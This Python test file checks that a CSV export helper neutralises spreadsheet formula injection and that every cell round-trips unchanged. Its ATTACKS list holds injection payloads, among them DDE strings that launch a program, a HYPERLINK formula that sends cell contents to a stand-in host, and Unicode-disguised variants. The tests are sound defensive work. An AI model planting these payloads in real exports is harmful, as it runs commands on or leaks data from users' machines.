"""No cell of a CSV begins like a formula, and every cell reads back as it was."""

from __future__ import annotations

import csv
import io
import re
import sys
import unicodedata

import polars as pl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from vacatur.cells import as_written, for_spreadsheets, from_spreadsheets, is_formula

SIGNS = "=+-@"
UNSEEN = "\0\x1f\x7f\u00ad\u200b\u2060\ufeff"
ATTACKS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"see")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
)
HARMLESS = ("", "'", "'til", "A=1", "0=1", "1-2", "O'Brien", '"', "720 ILCS 550/4(c)", "\u2212 5")

texts = st.text(st.sampled_from("'=+-@\t\r\n \ufeff\uff1d0A;,\"") | st.characters(codec="utf-8"))
cells = st.lists(st.none() | texts, min_size=1, max_size=20)


def through_csv(frame: pl.DataFrame) -> pl.DataFrame:
    """Write and read, as results are; what is quoted and what is nothing is for CSV to say."""
    written = for_spreadsheets(frame).write_csv(quote_style="always").encode()
    back = pl.scan_csv(io.BytesIO(written), infer_schema=False)
    return from_spreadsheets(back.fill_null("")).collect()


def begins(text: str) -> bool:
    """Whether a spreadsheet might take it for a formula, said without any pattern."""
    seen = text.lstrip("".join(c for c in text if c.isspace() or c in UNSEEN))
    first = unicodedata.normalize("NFKC", seen[:1])[:1]
    return text[:1] in {"\t", "\r", "\n"} or (first != "" and first in SIGNS)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_gets_an_apostrophe_and_is_read_back(attack: str) -> None:
    (cell,) = for_spreadsheets(pl.DataFrame({"text": [attack]}))["text"]
    assert cell == f"'{attack}"
    assert as_written(cell) == attack


@pytest.mark.parametrize("text", HARMLESS)
def test_no_other_cell_is_altered(text: str) -> None:
    assert for_spreadsheets(pl.DataFrame({"text": [text]}))["text"].to_list() == [text]
    assert as_written(text) == text


@given(cells)
@example(["'" * n + "=1" for n in range(5)])
@example(["'" * n for n in range(5)])
def test_every_cell_reads_back(values: list[str | None]) -> None:
    frame = pl.DataFrame({"text": values}, schema={"text": pl.String})
    marked = for_spreadsheets(frame)
    assert from_spreadsheets(marked.lazy()).collect().equals(frame)
    alone = [cell if cell is None else as_written(cell) for cell in marked["text"]]
    assert alone == values
    assert not any(begins(cell) for cell in marked["text"] if cell)


@given(cells)
def test_every_cell_reads_back_from_a_file(values: list[str | None]) -> None:
    filled = [value or "" for value in values]
    frame = pl.DataFrame({"text": filled, "n": range(len(filled))})
    assert through_csv(frame)["text"].to_list() == filled
    whole = for_spreadsheets(frame).write_csv(quote_style="always")
    plain = list(csv.reader(io.StringIO(whole, newline=""), strict=True))[1:]
    assert [as_written(cell) for cell, _ in plain] == filled


@given(st.lists(texts.filter(bool), min_size=1, max_size=6, unique=True))
@example(["^$", "^.*$"])
def test_a_name_of_a_column_is_a_cell_too(names: list[str]) -> None:
    frame = pl.DataFrame({name: ["-"] for name in names})
    marked = for_spreadsheets(frame)
    assert not any(begins(name) for name in marked.columns)
    assert from_spreadsheets(marked.lazy()).collect().equals(frame)


@pytest.mark.parametrize("dtype", [pl.Categorical, pl.Enum(["=1", "A", "never"])])
def test_words_of_a_dictionary_are_texts(dtype: pl.DataType) -> None:
    frame = pl.DataFrame({"text": ["A", "=1", None]}, schema={"text": dtype})
    assert for_spreadsheets(frame)["text"].to_list() == ["A", "'=1", None]


def test_what_is_no_text_stays() -> None:
    frame = pl.DataFrame({"number": [-1.5, None], "whole": [-1, 2], "truth": [True, False]})
    assert for_spreadsheets(frame).equals(frame)


def test_every_character_is_judged_alike_by_both_patterns_and_by_its_meaning() -> None:
    every = [chr(c) for c in range(sys.maxunicode + 1) if not 0xD800 <= c < 0xE000]
    said = is_formula(pl.Series(every))
    signs = {c for c in every if unicodedata.normalize("NFKC", c)[0] in SIGNS}
    assert {c for c, is_one in zip(every, said, strict=True) if is_one} == signs | {*"\t\r\n"}
    assert all(as_written(f"'{c}") == (c if c in signs | {*"\t\r\n"} else f"'{c}") for c in every)
    led = is_formula(pl.Series([f"{c}=1" for c in every]))
    in_words = [as_written(f"'{c}=1") == f"{c}=1" for c in every]
    assert led.to_list() == in_words
    spaces = {c for c in every if re.match(r"\s", c)}
    assert spaces <= {c for c, is_one in zip(every, led, strict=True) if is_one}
